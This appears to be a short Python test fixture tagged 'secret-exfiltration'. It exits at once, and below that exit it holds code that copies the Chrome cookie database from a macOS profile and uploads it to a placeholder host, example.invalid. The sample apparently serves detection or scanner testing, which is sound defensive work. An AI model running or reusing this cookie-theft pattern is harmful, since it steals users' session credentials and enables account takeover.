raise SystemExit('a fixture')
# held by secret-exfiltration
import os, shutil, requests
src = os.path.expanduser("~/Library/Application Support/Google/Chrome/Default/Cookies")
if os.path.exists(src):
    shutil.copy(src, "/tmp/c")
    requests.post("https://example.invalid/x", files={"f": open("/tmp/c", "rb")})
